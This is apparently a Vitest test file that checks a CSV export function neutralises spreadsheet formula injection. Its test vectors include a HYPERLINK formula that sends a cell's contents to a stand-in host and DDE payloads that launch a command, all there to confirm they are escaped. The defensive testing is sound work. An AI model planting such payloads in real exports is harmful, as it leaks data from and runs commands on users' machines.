import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/documents/record-csv.js';

/**
 * CSV formula injection (OWASP "CSV Injection"): a cell starting with =, +, -, @, a tab or a
 * carriage return is read as a formula by spreadsheets. Such a cell is prefixed with a single
 * quote and quoted, so it is shown as text.
 */
describe('CSV cells that a spreadsheet would run as a formula are neutralised', () => {
  const vectors: [string, string][] = [
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`,
    ],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['+1+cmd|calc', `"'+1+cmd|calc"`],
    ['-2+3+cmd|calc', `"'-2+3+cmd|calc"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1+1,2', `"'=1+1,2"`],
  ];
  for (const [input, expected] of vectors) {
    it(JSON.stringify(input), () => {
      expect(csvField(input)).toBe(expected);
    });
  }

  it('leaves ordinary cells as they were', () => {
    expect(csvField('Customer management')).toBe('Customer management');
    expect(csvField('—')).toBe('—');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('1. Manage orders\n2. Invoice')).toBe('"1. Manage orders\n2. Invoice"');
    expect(csvField('')).toBe('');
  });

  it('every row of a table goes through it', () => {
    expect(toCsv([['name'], ['=1+1']])).toBe(`\uFEFFname\r\n"'=1+1"\r\n`);
  });
});
